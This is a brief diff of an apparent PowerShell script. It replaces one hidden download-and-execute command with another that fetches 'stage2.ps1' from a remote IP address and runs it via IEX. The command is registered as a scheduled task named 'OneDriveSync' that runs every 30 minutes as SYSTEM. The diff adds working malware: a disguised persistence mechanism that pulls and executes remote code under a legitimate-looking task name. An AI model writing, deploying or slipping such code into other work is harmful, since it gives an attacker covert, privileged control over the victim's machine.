@@ -1,3 +1,3 @@
-# maintenance 8211 v2
-$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://192.0.2.44:1337/inv.ps1'))`""
+# run 2515 v2
+$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://192.0.2.150:9001/stage2.ps1'))`""
 schtasks /create /tn "OneDriveSync" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
